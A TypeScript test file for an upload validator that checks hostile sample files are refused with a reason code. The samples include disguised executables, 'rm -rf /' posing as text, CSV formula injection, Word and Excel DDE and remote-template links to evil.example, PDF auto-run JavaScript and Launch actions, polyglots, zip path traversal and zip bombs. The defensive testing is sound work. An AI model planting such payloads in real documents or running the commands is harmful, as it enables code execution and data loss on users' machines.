import { beforeAll, describe, expect, test } from 'vitest'
import {
  certificateTemplate,
  field,
  alterPackage,
  withMarkup,
  withRelation,
} from '../documents/word-template.fixture.ts'
import {
  compound,
  officePackage,
  withOpenAction,
  pdf,
  picture,
  relation,
  oversizedPng,
  zip,
} from './sample-files.fixture.ts'
import { ask, latin, object, packed } from './validate-file.fixture.ts'
import type { Bytes } from './validate-file.fixture.ts'

let docx: Uint8Array
beforeAll(async () => {
  docx = await certificateTemplate()
})
describe('refuses with the reason', () => {
  test.each<[why: string, name: string, code: string, make: () => Bytes]>([
    ['nothing in it', 'a.pdf', 'empty', () => new Uint8Array()],
    [
      'a program',
      'setup.exe',
      'kindNotTaken',
      () => Buffer.concat([latin('MZ'), Buffer.alloc(200)]),
    ],
    [
      'a program that says it is a PDF',
      'a.pdf',
      'kindNotTaken',
      () => Buffer.concat([latin('MZ'), Buffer.alloc(200)]),
    ],
    ['a page', 'page.html', 'kindNotTaken', () => latin('<html><script>alert(1)</script>')],
    ['a page that says it is text', 'page.txt', 'notText', () => latin('\n<!DOCTYPE html><p>')],
    ['a script that says it is text', 'a.txt', 'notText', () => latin('#!/bin/sh\nrm -rf /')],
    [
      'bytes that say they are text',
      'a.txt',
      'notText',
      () => Buffer.from([65, 0, 66, 255, 254, 7]),
    ],
    ['no ending', 'report', 'nameDiffers', () => pdf()],
    ['another ending than it is', 'plan.pdf', 'nameDiffers', () => picture('png')],
    ['a Word file under the name of an archive', 'a.zip', 'nameDiffers', () => docx],
    [
      'a cell that starts a program',
      'a.csv',
      'cellCommand',
      () => latin("name,fee\n=cmd|'/C calc'!A0,3"),
    ],
    ['an old Word file', 'a.doc', 'oldOffice', () => compound('WordDocument')],
    ['an old Excel file', 'a.xls', 'oldOffice', () => compound('Workbook')],
    ['a mail of Outlook', 'a.msg', 'mailFile', () => compound('__substg1.0_')],
    ['an encrypted Office file', 'a.docx', 'password', () => compound('EncryptedPackage')],
    [
      'Word: macros',
      'a.docx',
      'macro',
      () => alterPackage(docx, { 'word/vbaProject.bin': latin('x') }),
    ],
    [
      'Word: an attached template',
      'a.docx',
      'externalLink',
      () => withRelation(docx, 'attachedTemplate', 'http://evil.example/a.dotm'),
    ],
    [
      'Word: a picture from outside',
      'a.docx',
      'externalLink',
      () => withRelation(docx, 'image', 'http://evil.example/a.png'),
    ],
    [
      'Word: an old drawing from outside',
      'a.docx',
      'externalLink',
      () =>
        withMarkup(
          docx,
          '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a.png"/></w:pict></w:r></w:p>',
        ),
    ],
    ['Word: DDE', 'a.docx', 'fieldCode', () => withMarkup(docx, field(' DDEAUTO c:\\\\cmd.exe '))],
    ['Excel: macros', 'a.xlsx', 'macro', () => officePackage('xlsx', { 'xl/vbaProject.bin': 'x' })],
    [
      'Excel: macro sheets of Excel 4',
      'a.xlsx',
      'macro',
      () => officePackage('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' }),
    ],
    [
      'Excel: DDE',
      'a.xlsx',
      'dataLink',
      () =>
        officePackage('xlsx', {
          'xl/externalLinks/externalLink1.xml':
            '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        }),
    ],
    [
      'Excel: another book',
      'a.xlsx',
      'externalLink',
      () =>
        officePackage('xlsx', {
          'xl/worksheets/_rels/sheet1.xml.rels': relation('externalLinkPath', 'file:///a.xlsx'),
        }),
    ],
    [
      'Excel: a formula that fetches',
      'a.xlsx',
      'formulaCall',
      () =>
        officePackage('xlsx', {
          'xl/worksheets/sheet1.xml':
            '<worksheet><c><f>1+_xlfn.WEBSERVICE("http://evil.example")</f></c></worksheet>',
        }),
    ],
    [
      'Excel: an embedded file',
      'a.xlsx',
      'embedded',
      () => officePackage('xlsx', { 'xl/embeddings/oleObject1.bin': 'x' }),
    ],
    [
      'PowerPoint: runs a program',
      'a.pptx',
      'macro',
      () => officePackage('pptx', { 'ppt/slides/slide1.xml': '<a action="ppaction://program"/>' }),
    ],
    [
      'Excel that is no book inside',
      'a.xlsx',
      'nameDiffers',
      () => officePackage('xlsx', { '[Content_Types].xml': '<Types/>' }),
    ],
    [
      'PDF: a script when it opens',
      'a.pdf',
      'pdfActive',
      () => pdf(withOpenAction({ S: 'JavaScript', JS: 'app.alert(1)' }), false),
    ],
    [
      'PDF: the same, in packed objects',
      'a.pdf',
      'pdfActive',
      () => pdf(withOpenAction({ S: 'JavaScript', JS: 'app.alert(1)' })),
    ],
    [
      'PDF: opens an address',
      'a.pdf',
      'pdfActive',
      () => pdf(withOpenAction({ S: 'URI', URI: 'http://evil.example' })),
    ],
    ['PDF: starts a program', 'a.pdf', 'pdfActive', () => object('<</S/Launch/F(cmd.exe)>>')],
    [
      'PDF: a name written in numbers',
      'a.pdf',
      'pdfActive',
      () => object('<</S/J#61va#53cript/J#53(app.alert(1))>>'),
    ],
    [
      'PDF: a file in it',
      'a.pdf',
      'pdfActive',
      () => object('<</Type/Filespec/EF<</F 5 0 R>>/Names<</EmbeddedFiles 3 0 R>>>>'),
    ],
    ['PDF: a form of XFA', 'a.pdf', 'pdfActive', () => object('<</AcroForm<</XFA[(a)3 0 R]>>>>')],
    ['PDF: media', 'a.pdf', 'pdfActive', () => object('<</Type/Annot/Subtype/RichMedia>>')],
    [
      'PDF: packed objects without their type',
      'a.pdf',
      'pdfActive',
      () => packed('<</S/JavaScript/JS(x)>>', '/N 1/First 4'),
    ],
    [
      'PDF: packed so that they cannot be read',
      'a.pdf',
      'pdfHidden',
      () =>
        latin(
          '%PDF-1.7\n4 0 obj<</N 1/First 4/Filter/LZWDecode/Length 4>>stream\nabcd\nendstream endobj\n%%EOF',
        ),
    ],
    [
      'PDF: an earlier revision',
      'a.pdf',
      'pdfActive',
      async () => Buffer.concat([object('<</S/JavaScript/JS(x)>>'), await pdf()]),
    ],
    [
      'PDF: an object in a text',
      'a.pdf',
      'pdfHidden',
      () => object('<</A( 9 0 obj<</S/JavaScript>>endobj )>>'),
    ],
    [
      'PDF: an object in a stream',
      'a.pdf',
      'pdfHidden',
      () => object('<</Length 30>>stream\n9 0 obj<</S/JavaScript>>endobj \nendstream '),
    ],
    [
      'PDF: an object in a remark',
      'a.pdf',
      'pdfHidden',
      () => object('% 9 0 obj<</S/JavaScript>>endobj\n<<>>'),
    ],
    [
      'PDF: encrypted',
      'a.pdf',
      'pdfLocked',
      () => latin('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R/Encrypt 2 0 R>>\n%%EOF'),
    ],
    ['PDF: not one at all', 'a.pdf', 'notOfItsKind', () => Buffer.from([0x17, 0x80, 0, 1, 2])],
    ['PDF: cut off', 'a.pdf', 'pdfUnfinished', async () => (await pdf()).subarray(0, 400)],
    [
      'PDF: something behind it',
      'a.pdf',
      'twoInOne',
      async () => Buffer.concat([await pdf(), latin('<script>alert(1)</script>')]),
    ],
    [
      'PDF and archive in one',
      'a.pdf',
      'twoInOne',
      async () => Buffer.concat([await pdf(), zip({ 'a.txt': 'a' })]),
    ],
    [
      'PNG and archive in one',
      'a.png',
      'twoInOne',
      async () => Buffer.concat([await picture('png'), zip({ 'a.txt': 'a' })]),
    ],
    [
      'JPEG with a page in it',
      'a.jpg',
      'twoInOne',
      async () => Buffer.concat([await picture('jpeg'), latin('<script>alert(1)</script>')]),
    ],
    [
      'a picture of a surface that it does not have',
      'a.png',
      'imageTooLarge',
      () => oversizedPng(50_000, 50_000),
    ],
    [
      'a picture cut off',
      'a.png',
      'badPicture',
      async () => (await picture('png')).subarray(0, 50),
    ],
    ['archive: an archive in it', 'a.zip', 'nested', () => zip({ 'b.zip': zip({ 'c.txt': 'c' }) })],
    [
      'archive: one under another name',
      'a.zip',
      'nested',
      () => zip({ 'b.txt': zip({ 'c.txt': 'c' }) }),
    ],
    ['archive: a program in it', 'a.zip', 'kindNotTaken', () => zip({ 'setup.exe': 'MZ' })],
    [
      'archive: a file outside it',
      'a.zip',
      'brokenZip',
      () => zip({ '../../etc/passwd.txt': 'a' }),
    ],
    [
      'archive: grows too large',
      'a.zip',
      'bomb',
      () => zip({ 'a.txt': Buffer.alloc(2 ** 21, 65) }),
    ],
    [
      'archive: too many files',
      'a.zip',
      'bomb',
      () =>
        zip(Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`${i}.txt`, 'a'])), 'STORE'),
    ],
    [
      'archive: something in front of it',
      'a.zip',
      'kindNotTaken',
      () => Buffer.concat([latin('MZ front'), zip({ 'a.txt': 'a' })]),
    ],
  ])('%s', async (_, name, code, make) => expect(await ask(name, make())).toContain(code))
})
